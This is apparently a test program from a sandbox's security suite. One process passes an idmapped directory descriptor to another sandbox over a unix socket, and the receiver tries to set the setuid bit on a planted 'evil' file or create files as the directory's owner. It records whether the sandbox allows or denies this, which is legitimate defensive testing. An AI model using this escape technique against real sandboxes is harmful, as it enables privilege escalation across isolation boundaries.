// Acts as the owner of a directory through a descriptor another sandbox passed over a unix socket.
// An idmapped mount maps the directory's owner to the sandbox's host uid, so whoever holds that
// host uid and a descriptor into the mount acts as the owner there:
//   send DIR SOCKET         (the sandbox that has DIR idmapped) creates DIR/evil, connects to
//                           SOCKET, sends a descriptor of DIR and its own host uid ("uid N"), and
//                           waits for the peer to hang up
//   use SOCKET chmod|create (the receiver) connects to SOCKET, takes the descriptor, then either
//                           adds S_ISUID to evil (fchmodat 04755) or creates a file through it
// SUCCEEDED for "use" only if the receiver acted as the owner: the set-id bit is set, or the file
// was created.
#include <fcntl.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#include "attack.h"

// Every openat passes a mode, 0 without O_CREAT, as libc does: the set-id filter of an rw bind
// reads the mode register whatever the flags.

static const char* const kName = "passed_dir_fd";

static long connect_to(const char* path) {
    const long fd = syscall(SYS_socket, AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0) {
        return fd;
    }
    struct sockaddr_un address;
    memset(&address, 0, sizeof address);
    address.sun_family = AF_UNIX;
    strncpy(address.sun_path, path, sizeof address.sun_path - 1);
    if (syscall(SYS_connect, fd, &address, sizeof address) != 0) {
        return -1;
    }
    return fd;
}

// The outside id of the first line of /proc/self/uid_map.
static long host_uid(void) {
    char text[256];
    const long file = syscall(SYS_openat, AT_FDCWD, "/proc/self/uid_map", O_RDONLY | O_CLOEXEC, 0);
    if (file < 0) {
        return -1;
    }
    const long length = syscall(SYS_read, file, text, sizeof text - 1);
    syscall(SYS_close, file);
    if (length <= 0) {
        return -1;
    }
    text[length] = '\0';
    char* rest = NULL;
    strtol(text, &rest, 10);
    return strtol(rest, NULL, 10);
}

static int send_dir(const char* dir, const char* socket_path) {
    char evil[4096];
    snprintf(evil, sizeof evil, "%s/evil", dir);
    const long file =
        syscall(SYS_openat, AT_FDCWD, evil, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0755);
    if (file < 0 || syscall(SYS_write, file, "#!/bin/sh\n", 10) != 10) {
        return attack_broken(kName, "creating evil");
    }
    syscall(SYS_close, file);
    const long directory =
        syscall(SYS_openat, AT_FDCWD, dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC, 0);
    const long peer = connect_to(socket_path);
    if (directory < 0 || peer < 0) {
        return attack_broken(kName, "opening the directory or connecting");
    }
    char data[64];
    const int length = snprintf(data, sizeof data, "uid %ld\n", host_uid());
    struct iovec part = {data, (size_t)length};
    char control[CMSG_SPACE(sizeof(int))];
    memset(control, 0, sizeof control);
    struct msghdr message;
    memset(&message, 0, sizeof message);
    message.msg_iov = &part;
    message.msg_iovlen = 1;
    message.msg_control = control;
    message.msg_controllen = sizeof control;
    struct cmsghdr* header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int));
    const int sent_fd = (int)directory;
    memcpy(CMSG_DATA(header), &sent_fd, sizeof sent_fd);
    if (syscall(SYS_sendmsg, peer, &message, 0) != length) {
        return attack_broken(kName, "sendmsg");
    }
    char byte;
    while (syscall(SYS_read, peer, &byte, 1) > 0) {
    }
    return attack_succeeded(kName, "sent");
}

static int use_dir(const char* socket_path, const char* method) {
    const long peer = connect_to(socket_path);
    if (peer < 0) {
        return attack_broken(kName, "connecting");
    }
    char data[64];
    struct iovec part = {data, sizeof data};
    char control[CMSG_SPACE(sizeof(int))];
    struct msghdr message;
    memset(&message, 0, sizeof message);
    message.msg_iov = &part;
    message.msg_iovlen = 1;
    message.msg_control = control;
    message.msg_controllen = sizeof control;
    if (syscall(SYS_recvmsg, peer, &message, MSG_CMSG_CLOEXEC) <= 0) {
        return attack_broken(kName, "recvmsg");
    }
    struct cmsghdr* header = CMSG_FIRSTHDR(&message);
    if (header == NULL || header->cmsg_type != SCM_RIGHTS) {
        return attack_report(kName, "BROKEN", ATTACK_BROKEN, "no descriptor received");
    }
    int directory;
    memcpy(&directory, CMSG_DATA(header), sizeof directory);
    if (strcmp(method, "chmod") == 0) {
        if (syscall(SYS_fchmodat, directory, "evil", S_ISUID | 0755) != 0) {
            return attack_failed(kName, errno);
        }
        struct stat info;
        if (syscall(SYS_newfstatat, directory, "evil", &info, 0) != 0) {
            return attack_broken(kName, "stat");
        }
        if ((info.st_mode & S_ISUID) == 0) {
            return attack_report(kName, "DENIED", ATTACK_DENIED, "set-id bit stripped");
        }
        return attack_report(kName, "SUCCEEDED", ATTACK_SUCCEEDED, "evil is mode %o",
                             (unsigned)(info.st_mode & 07777));
    }
    if (strcmp(method, "create") == 0) {
        const long file = syscall(SYS_openat, directory, "created",
                                  O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0644);
        return attack_result(kName, file, "created a file through the descriptor");
    }
    return attack_report(kName, "BROKEN", ATTACK_BROKEN, "unknown method %s", method);
}

int main(int argc, char** argv) {
    if (argc == 4 && strcmp(argv[1], "send") == 0) {
        return send_dir(argv[2], argv[3]);
    }
    if (argc == 4 && strcmp(argv[1], "use") == 0) {
        return use_dir(argv[2], argv[3]);
    }
    return attack_report(kName, "BROKEN", ATTACK_BROKEN, "usage: send DIR SOCKET | use SOCKET M");
}
